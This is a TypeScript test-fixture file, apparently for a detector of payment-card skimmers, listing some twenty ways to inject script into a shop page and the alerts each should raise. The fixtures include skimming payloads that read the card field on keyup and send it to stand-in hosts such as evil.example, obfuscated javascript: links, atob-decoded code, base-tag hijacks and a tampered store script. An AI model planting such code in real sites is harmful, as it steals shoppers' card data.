import { image, number, onKey, type Skimmer, script, served } from "./skimmer.ts";

/** Ways to get code onto the page. */
export const loaders: readonly Skimmer[] = [
  {
    name: "a script of another host",
    head: '<script src="https://evil.example/s.js"></script>',
    files: served("evil.example/s.js", "window.x=1"),
    named: [["script", "https://evil.example/s.js"]],
  },
  {
    name: "a script that loads late",
    body: script(
      "setTimeout(function(){var s=document.createElement('script');s.src='https://evil.example/late.js';document.body.append(s)},15000);",
    ),
    files: served("evil.example/late.js", "window.x=1"),
    named: [
      ["script", "late.js"],
      ["inline-script", "late.js"],
    ],
  },
  {
    name: "an inline script",
    body: script(onKey(image)),
    named: [
      ["inline-script", "keyup"],
      ["card-sent", "https://evil.example/i"],
      ["card-read", "the card's field"],
    ],
  },
  {
    name: "a picture's onerror",
    body: `<img src="/nope.png" onerror="${onKey(image)}this.remove()">`,
    named: [
      ["inline-script", "keyup"],
      ["card-sent", "evil.example"],
    ],
  },
  {
    name: "a drawing's onload",
    body: `<svg onload="${onKey(image)}"></svg>`,
    named: [
      ["inline-script", "keyup"],
      ["card-sent", "evil.example"],
    ],
  },
  {
    name: "a handler that waits for the mouse",
    body: `<div onmouseover="fetch('https://evil.example/'+${number}.value)">x</div>`,
    named: [["inline-script", "evil.example"]],
  },
  {
    name: "focus that comes by itself",
    body: `<input autofocus onfocus="fetch('https://evil.example/f')">`,
    named: [["inline-script", "evil.example/f"]],
  },
  {
    name: "a script in a drawing",
    body: '<svg><script href="https://evil.example/svg.js"></script></svg>',
    files: served("evil.example/svg.js", "window.x=1"),
    named: [["script", "svg.js"]],
  },
  {
    name: "a javascript: link",
    body: `<a href="java&#10;script:fetch('https://evil.example/')">Pay</a>`,
    named: [["inline-script", "evil.example"]],
  },
  {
    name: "a base that moves relative files",
    alone: true,
    head: '<base href="https://evil.example/"><script src="lib/x.js"></script>',
    files: served("evil.example/lib/x.js", "window.x=1"),
    named: [["script", "https://evil.example/lib/x.js"]],
  },
  {
    name: "a module of another host",
    body: '<script type="module">import "https://evil.example/m.js";</script>',
    files: served("evil.example/m.js", "window.x=1"),
    named: [["script", "m.js"]],
  },
  {
    name: "code made of a text",
    body: script("new Function(atob('d2luZG93LmV2aWw9MQ=='))()"),
    named: [["inline-script", "window.evil=1"]],
  },
  {
    name: "a script that says it is the provider's",
    body: script(`${onKey(image)}\n//# sourceURL=https://js.pay.example/v3/`),
    named: [["inline-script", "keyup"]],
  },
  {
    name: "a frame's document in an attribute",
    body: `<iframe srcdoc="<script>parent.document.addEventListener('keyup',function(){})</script>"></iframe>`,
    named: [["inline-script", "keyup"]],
  },
  {
    name: "a frame made of data",
    body: `<iframe src="data:text/html,<script>fetch('https://evil.example/d',{mode:'no-cors'})</script>"></iframe>`,
    named: [["frame", "data:"]],
  },
  {
    name: "another container of the tag manager",
    head: '<script src="https://tags.example/gtm.js?id=GTM-EVIL1"></script>',
    named: [["script", "GTM-EVIL1"]],
  },
  {
    name: "an agreed tag manager that loads more",
    alone: true,
    files: served(
      "tags.example/gtm.js",
      "var s=document.createElement('script');s.src='https://evil.example/t.js';document.head.append(s);",
    ),
    named: [
      ["script", "https://evil.example/t.js"],
      ["script", "brought by https://tags.example/gtm.js"],
    ],
  },
  {
    name: "an agreed tag manager that reads the card",
    alone: true,
    files: served("tags.example/gtm.js", onKey("fetch('https://stats.example/collect?cid='+btoa(v),{mode:'no-cors'});")),
    named: [
      ["card-read", "tags.example/gtm.js"],
      ["card-sent", "base64"],
    ],
  },
  {
    name: "one of the store's own files, changed",
    alone: true,
    files: served(
      "/var/resources/default/https/js/common.js",
      `document.addEventListener("submit",function(e){if(!e.target.matches("form.product-details"))return;e.preventDefault();fetch("/",{method:"POST",body:new URLSearchParams(new FormData(e.target))})});${onKey(image)}`,
    ),
    named: [
      ["changed-script", "common.js"],
      ["card-sent", "evil.example"],
    ],
  },
  {
    name: "a file of the store's own that is new",
    head: '<script src="/var/resources/default/https/js/jquery.min.js"></script>',
    files: served("/var/resources/default/https/js/jquery.min.js", "window.x=1"),
    named: [["script", "jquery.min.js"]],
  },
];
